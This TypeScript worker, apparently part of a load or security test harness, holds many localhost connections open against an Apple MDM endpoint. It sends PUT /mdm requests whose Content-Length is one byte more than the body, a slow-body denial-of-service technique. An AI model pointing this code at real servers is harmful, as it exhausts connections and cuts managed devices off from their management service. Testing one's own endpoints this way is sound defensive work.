import { connect, type Socket } from 'node:net';
import { answerCalls } from '../../push/child-calls.js';
import type { Attack, AttackCalls, AttackState } from './attack.js';

const MEGABYTE = 1024 * 1024;

const sockets: Socket[] = [];
const answers: Record<string, number> = {};
let body: Buffer = Buffer.alloc(0);

function headOf({ bodyBytes }: Attack, signature: string): string {
  return [
    'PUT /mdm HTTP/1.1',
    'Host: localhost',
    'Content-Type: application/x-apple-aspen-mdm',
    `Content-Length: ${bodyBytes + 1}`,
    `Mdm-Signature: ${signature}`,
    '\r\n',
  ].join('\r\n');
}

function holdOne(attack: Attack, index: number): void {
  const { port, signatures } = attack;
  const socket = connect(port, '127.0.0.1');
  sockets.push(socket);
  socket.setEncoding('latin1');
  socket.on('error', () => undefined);
  socket.once('data', (text: string) => {
    const status = text.split(' ')[1] ?? '';
    answers[status] = (answers[status] ?? 0) + 1;
  });
  socket.write(headOf(attack, signatures[index % signatures.length] ?? ''));
  socket.write(body);
}

function look(): AttackState {
  const open = sockets.filter(({ closed, connecting }) => !closed && !connecting).length;
  const sent = sockets.reduce((sum, one) => sum + one.bytesWritten - one.writableLength, 0);
  return { open, answers, sentMegabytes: sent / MEGABYTE };
}

answerCalls<AttackCalls>({
  begin: (attack) => {
    body = Buffer.alloc(attack.bodyBytes, ' ');
    for (let index = 0; index < attack.connections; index += 1) holdOne(attack, index);
  },
  look,
  end: () => {
    for (const socket of sockets) socket.destroy();
  },
});
